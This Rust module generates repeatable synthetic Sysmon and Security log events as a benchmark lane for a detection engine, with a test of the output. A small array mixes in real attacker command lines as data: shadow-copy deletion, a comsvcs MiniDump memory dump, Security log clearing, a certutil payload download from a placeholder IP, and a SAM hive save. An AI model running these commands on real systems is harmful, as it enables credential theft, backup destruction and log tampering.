//! Events made up by rule of chance, always the same ones: the lane for a checkout without a corpus.
//!
//! ```text
//! seed ─▶ process starts, registry writes, logons, image loads ... with a suspicious one now and then
//! ```
//!
//! They have the shape and the repetition of real logs (few images, many command lines), not their breadth;
//! figures from here say that the benchmark runs, not how fast the engine is in the field.

use crate::lane::Lane;
use std::fmt::Write;

/// A small deterministic source of chance (SplitMix64).
#[derive(Debug, Clone)]
pub struct Chance {
    state: u64,
}

impl Chance {
    /// Starts from a seed.
    #[must_use]
    pub fn new(seed: u64) -> Self {
        Self { state: seed }
    }

    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.state;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// A number below `bound`; 0 when there is none.
    pub fn below(&mut self, bound: usize) -> usize {
        if bound == 0 { 0 } else { (self.next() % bound as u64) as usize }
    }

    fn pick<'a>(&mut self, choices: &[&'a str]) -> &'a str {
        choices.get(self.below(choices.len())).copied().unwrap_or_default()
    }
}

const IMAGES: [&str; 12] = [
    r"C:\\Windows\\System32\\svchost.exe",
    r"C:\\Windows\\System32\\conhost.exe",
    r"C:\\Windows\\System32\\backgroundTaskHost.exe",
    r"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    r"C:\\Windows\\explorer.exe",
    r"C:\\Windows\\System32\\cmd.exe",
    r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    r"C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    r"C:\\Program Files\\Historian\\collector.exe",
    r"C:\\Windows\\System32\\taskhostw.exe",
    r"C:\\ProgramData\\Vendor\\updater.exe",
];

const ARGUMENTS: [&str; 8] = [
    "-k netsvcs -p -s Schedule",
    "0xffffffff -ForceV1",
    "-Embedding",
    r"/c dir C:\\Users\\Public",
    "--type=renderer --lang=en-US --num-raster-threads=4",
    "-NoProfile -Command Get-Service",
    r"/n C:\\Users\\mkeller\\Documents\\report.docx",
    "--interval 60 --tags plant.csv",
];

/// Command lines that the pack is there for; the rest is ordinary.
const SUSPICIOUS: [(&str, &str); 5] = [
    (r"C:\\Windows\\System32\\vssadmin.exe", "delete shadows /all /quiet"),
    (r"C:\\Windows\\System32\\rundll32.exe", r"C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\t\\d.bin full"),
    (r"C:\\Windows\\System32\\wevtutil.exe", "cl Security"),
    (r"C:\\Windows\\System32\\certutil.exe", "-urlcache -split -f http://198.51.100.7/a.exe a.exe"),
    (r"C:\\Windows\\System32\\reg.exe", r"save HKLM\\SAM C:\\t\\sam.hiv"),
];

const USERS: [&str; 5] =
    [r"WATER\\mkeller", r"WATER\\ajones", r"NT AUTHORITY\\SYSTEM", r"WATER\\svc_hist", r"WATER\\eng1"];
const HOSTS: [&str; 4] = ["OFFICE07.example.net", "JUMP01.example.net", "ENG02.example.net", "HIST01.example.net"];

/// `events` made-up events.
#[must_use]
pub fn lane(events: usize) -> Lane {
    let mut chance = Chance::new(20_261_123);
    let mut text = String::with_capacity(events * 700);
    for number in 0..events {
        event(&mut chance, number, &mut text);
    }
    Lane::new(&format!("generated, {events} events"), text.into_bytes())
}

fn event(chance: &mut Chance, number: usize, out: &mut String) {
    let (host, user) = (chance.pick(&HOSTS), chance.pick(&USERS));
    let (image, parent) = (chance.pick(&IMAGES), chance.pick(&IMAGES));
    let head = |id: u32, channel: &str| {
        format!(
            r#""Provider_Name":"Microsoft-Windows-Sysmon","EventID":{id},"Level":4,"Channel":"{channel}","Computer":"{host}","TimeCreated_SystemTime":"2026-11-23T{:02}:{:02}:{:02}.{:03}Z","EventRecordID":{number},"User":"{user}""#,
            number / 3600 % 24,
            number / 60 % 60,
            number % 60,
            number % 1000,
        )
    };
    let sysmon = "Microsoft-Windows-Sysmon/Operational";
    let written = match chance.below(100) {
        0..20 => {
            let (image, arguments) = match chance.below(200) {
                0 => SUSPICIOUS.get(chance.below(SUSPICIOUS.len())).copied().unwrap_or_default(),
                _ => (image, chance.pick(&ARGUMENTS)),
            };
            let unique = chance.next();
            writeln!(
                out,
                r#"{{{},"Image":"{image}","CommandLine":"\"{image}\" {arguments}","ParentImage":"{parent}","ParentCommandLine":"\"{parent}\" --id {unique:016x}","CurrentDirectory":"C:\\Windows\\System32\\","IntegrityLevel":"Medium","Hashes":"SHA1={unique:040X},IMPHASH={:032X}"}}"#,
                head(1, sysmon),
                unique.rotate_left(17),
            )
        }
        20..50 => writeln!(
            out,
            r#"{{{},"SourceImage":"{parent}","TargetImage":"{image}","GrantedAccess":"0x{:x}","CallTrace":"C:\\Windows\\SYSTEM32\\ntdll.dll+9c524|C:\\Windows\\System32\\KERNELBASE.dll+{:x}"}}"#,
            head(10, sysmon),
            0x1000 << chance.below(4),
            chance.below(1 << 20),
        ),
        50..70 => writeln!(
            out,
            r#"{{{},"EventType":"SetValue","Image":"{image}","TargetObject":"HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{{{:08x}}}\\LeaseTerminatesTime","Details":"DWORD (0x{:08x})"}}"#,
            head(13, sysmon),
            chance.below(64),
            chance.below(1 << 31),
        ),
        70..85 => writeln!(
            out,
            r#"{{{},"Image":"{image}","ImageLoaded":"C:\\Windows\\System32\\module{:03}.dll","Signed":"true","SignatureStatus":"Valid","Company":"Microsoft Corporation"}}"#,
            head(7, sysmon),
            chance.below(400),
        ),
        _ => writeln!(
            out,
            r#"{{{},"TargetUserName":"mkeller","LogonType":{},"IpAddress":"10.20.{}.{}","WorkstationName":"{host}","LogonProcessName":"Kerberos"}}"#,
            head(4624, "Security"),
            [2, 3, 5, 10].get(chance.below(4)).copied().unwrap_or(3),
            chance.below(8),
            chance.below(250),
        ),
    };
    // Writing into a text cannot fail.
    let _ = written;
}

#[cfg(test)]
mod tests {
    use super::lane;

    #[test]
    fn the_lane_is_json_and_always_the_same() {
        let (first, second) = (lane(300), lane(300));
        assert_eq!(first.len(), 300);
        for (first, second) in first.events().zip(second.events()) {
            assert_eq!(first, second);
            assert!(serde_json::from_slice::<serde_json::Value>(first).is_ok(), "{}", String::from_utf8_lossy(first));
        }
    }
}
